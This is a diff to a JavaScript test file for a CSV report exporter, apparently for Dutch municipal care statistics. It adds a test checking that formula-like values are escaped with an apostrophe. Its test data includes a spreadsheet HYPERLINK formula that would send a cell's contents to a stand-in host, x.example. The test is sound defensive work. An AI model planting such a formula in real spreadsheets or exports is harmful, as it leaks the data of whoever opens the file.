@@ -85,6 +85,23 @@ describe('renderReportCsv', () => {
     expect(section(csv, 'Tevredenheid bij afsluiting').slice(-3)).toEqual(['Aantal antwoorden,1', 'Gemiddeld cijfer,8', 'Kan zelf verder (% ja),']);
   });
 
+  it('writes a text a spreadsheet would run as a formula as text, and numbers (also negative ones) as numbers', () => {
+    const hostile = report();
+    hostile.provisions.new_by_provider = {
+      begeleiding: { '=HYPERLINK("http://x.example/?d="&A1,"klik")': { quarters: [1, 0, 0, 0], year: 1 }, '@SUM(A1:A9)': emptyQuarterCounts(), "'s-Hertogenbosch Zorg": emptyQuarterCounts() },
+    };
+    hostile.days_to_first_meeting.year = -0.5;
+    const rows = section(renderReportCsv(hostile, { ...labels, teams: { west: '+31 30 123 45 67' } }), 'Nieuwe maatwerkvoorzieningen per aanbieder');
+    expect(rows.slice(1)).toEqual([
+      'Begeleiding,"\'=HYPERLINK(""http://x.example/?d=""&A1,""klik"")",1,0,0,0,1',
+      "Begeleiding,'@SUM(A1:A9),0,0,0,0,0",
+      "Begeleiding,'s-Hertogenbosch Zorg,0,0,0,0,0",
+    ]);
+    const again = renderReportCsv(hostile, { ...labels, teams: { west: '+31 30 123 45 67' } });
+    expect(section(again, 'Unieke cliënten per team')[1]).toBe("'+31 30 123 45 67,3,0,0,0,3");
+    expect(section(again, 'Dagen tot kennismakingsgesprek (gemiddeld)')[2]).toBe('Alle locaties,,,,,,,,,,,,,4.5,,,,-0.5');
+  });
+
   it('names the scope of a quarterly team report in its title', () => {
     expect(renderReportCsv(report(), labels, { quarter: 2, team: 'hoograven-tolsteeg' }).split('\n')[0]).toBe('"Kwartaalrapportage 2016 (t/m kwartaal 2, team Hoograven / Tolsteeg)"');
   });
